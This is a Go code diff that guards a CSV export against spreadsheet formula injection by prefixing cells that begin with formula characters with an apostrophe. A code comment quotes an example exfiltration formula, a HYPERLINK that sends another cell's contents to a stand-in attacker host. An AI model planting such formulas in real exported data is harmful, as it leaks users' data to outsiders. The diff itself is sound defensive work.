@@ -306,15 +306,21 @@ func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 	}
 	sep := o.separator
 	special := sep + "\"\r\n"
-	field := func(i int, b []byte) {
+	field := func(i int, b []byte, guard bool) {
 		if i > 0 {
 			bw.WriteString(sep)
 		}
 		if !o.quoteAll && !bytes.ContainsAny(b, special) {
+			if guard {
+				bw.WriteByte('\'')
+			}
 			bw.Write(b)
 			return
 		}
 		s := string(b)
+		if guard {
+			s = "'" + s
+		}
 		if !o.keepNewline && strings.ContainsAny(s, "\r\n") {
 			s = strings.NewReplacer("\r\n", " ", "\n", " ", "\r", " ").Replace(s)
 		}
@@ -327,8 +333,12 @@ func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 		bw.WriteString(s)
 	}
 	null := []byte(o.nullValue)
+	numeric := make([]bool, len(rr.keep))
+	for i, j := range rr.keep {
+		numeric[i] = numericType(linkisType(rr.header.Columns[j].Type))
+	}
 	for i, n := range rr.names() {
-		field(i, []byte(n))
+		field(i, []byte(n), formulaLike([]byte(n)))
 	}
 	bw.WriteByte('\n')
 	for n := 0; o.limit == 0 || n < o.limit; n++ {
@@ -340,15 +350,37 @@ func writeCSV(w io.Writer, rr *resultReader, o exportOptions) error {
 			return err
 		}
 		for i, v := range row {
-			if v.kind == cellNull {
-				field(i, null)
-			} else {
-				field(i, v.text)
+			switch {
+			case v.kind == cellNull:
+				field(i, null, false)
+			case v.kind == cellString && formulaLike(v.text):
+				// A number kept as text in a numeric column stays a number.
+				field(i, v.text, !numeric[i] || !isNumber(v.text))
+			default:
+				field(i, v.text, false)
 			}
 		}
 		bw.WriteByte('\n')
 	}
 	return bw.Flush()
+}
+
+// formulaLike reports whether a spreadsheet would take a cell beginning
+// so for a formula (or, for tab and carriage return, hide a formula
+// after them): '=', '+', '-', '@' (OWASP's "CSV injection"). A CSV
+// download writes such a text cell with a leading "'", which spreadsheets
+// read as "this is text" and do not show: a result cell
+// =HYPERLINK("http://attacker/?"&B2) - data of a shared table, another
+// user's result an administrator exports - would otherwise run on the
+// downloader's machine. Numbers (JSON numbers, and numbers kept as text
+// in a numeric column) are left as they are: -5 is a number.
+func formulaLike(b []byte) bool {
+	return len(b) > 0 && strings.IndexByte("=+-@\t\r", b[0]) >= 0
+}
+
+func isNumber(b []byte) bool {
+	_, err := strconv.ParseFloat(string(b), 64)
+	return err == nil
 }
 
 // writeCell writes a cell's text, a null as nullValue.
